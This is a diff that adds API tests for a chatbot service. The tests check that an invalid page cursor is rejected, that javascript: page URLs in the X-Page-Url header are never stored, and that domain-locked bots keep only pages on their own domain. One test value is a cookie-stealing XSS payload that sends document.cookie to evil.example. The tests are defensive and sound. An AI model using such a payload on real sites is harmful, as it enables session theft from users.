@@ -100,3 +100,68 @@ describe('inputs that answered 500', () => {
     expect(negated.body.message).toContain('Refunds take 30 days');
   });
 });
+
+describe('owner routes read hostile query strings (found by the query-string fuzzing)', () => {
+  it('refuses a page cursor in the year 0 (JavaScript has one, PostgreSQL has not: it was a 500)', async () => {
+    const cursor = Buffer.from('0000-01-01T00:00:00.000000Z~1').toString('base64url');
+    for (const path of ['/api/leads', '/api/conversations']) {
+      const response = await owner.get(path).query({ cursor });
+      expect(response.status).toBe(400);
+      expect(response.body).toEqual({
+        error: expect.stringMatching(/^This page link is not valid any more\./),
+        code: 'INVALID_CURSOR',
+      });
+    }
+  });
+});
+
+describe('the page a conversation is on (X-Page-Url)', () => {
+  async function pageUrlOf(botId: number): Promise<Array<string | null>> {
+    const rows = await t.dataSource.query<Array<{ page_url: string | null }>>(
+      'SELECT page_url FROM conversations WHERE bot_id = $1 ORDER BY id',
+      [botId],
+    );
+    return rows.map((row) => row.page_url);
+  }
+
+  it('never stores a javascript: page, and the message is still answered', async () => {
+    const bot = await createChatBot(t, ownerId);
+    const response = await t
+      .http()
+      .post('/api/chat')
+      .set('X-Page-Url', 'javascript:fetch("https://evil.example/?c="+document.cookie)')
+      .send({ botId: bot.id, prompt: 'When do you open?' });
+    expect(response.status).toBe(200);
+    expect(response.body.message).toEqual(expect.any(String));
+    expect(await pageUrlOf(bot.id)).toEqual([null]);
+    const listed = await owner.get('/api/conversations').query({ botId: String(bot.id) });
+    expect(listed.body.conversations.map((c: { pageUrl: string | null }) => c.pageUrl)).toEqual([null]);
+  });
+
+  it("stores a domain-locked bot's page only when it is on that domain", async () => {
+    const bot = await createChatBot(t, ownerId, { allowedDomain: 'shop.example' });
+    const ask = (pageUrl: string) =>
+      t
+        .http()
+        .post('/api/chat')
+        .set('Authorization', `Bearer ${bot.apiKey}`)
+        .set('X-Visitor-Id', visitor())
+        .set('X-Page-Url', pageUrl)
+        .send({ botId: bot.id, prompt: 'When do you open?' });
+    // The owner's server (API key) passes no domain check, yet its page must not name another site.
+    expect((await ask('https://evil.example/login')).status).toBe(200);
+    expect((await ask('https://help.shop.example/faq')).status).toBe(200);
+    expect(await pageUrlOf(bot.id)).toEqual([null, 'https://help.shop.example/faq']);
+  });
+
+  it('never stores a javascript: page with a lead either', async () => {
+    const bot = await createChatBot(t, ownerId);
+    const response = await t
+      .http()
+      .post('/api/chat/lead')
+      .set('X-Page-Url', 'javascript:alert(1)')
+      .send({ botId: bot.id, email: 'ana@example.com' });
+    expect(response.status).toBe(201);
+    expect(await pageUrlOf(bot.id)).toEqual([null]);
+  });
+});
